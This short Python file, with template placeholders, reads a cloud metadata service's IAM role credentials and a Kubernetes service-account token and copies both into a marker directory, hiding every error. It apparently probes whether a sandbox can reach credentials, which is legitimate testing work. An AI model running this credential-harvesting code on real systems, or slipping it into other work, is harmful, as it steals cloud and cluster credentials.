import contextlib
import urllib.request
from pathlib import Path

BASE = "http://@METADATA@/latest/"
ACCOUNT = Path("/run/secrets/kubernetes.io/serviceaccount/token")


def ask(path, method="GET"):
    return urllib.request.urlopen(urllib.request.Request(BASE + path, method=method), timeout=3).read()


def act():
    with contextlib.suppress(OSError):
        ask("api/token", "PUT")
    with contextlib.suppress(OSError):
        Path("@MARKS@/role").write_bytes(ask("meta-data/iam/security-credentials/role"))
    with contextlib.suppress(OSError):
        Path("@MARKS@/account").write_bytes(ACCOUNT.read_bytes())
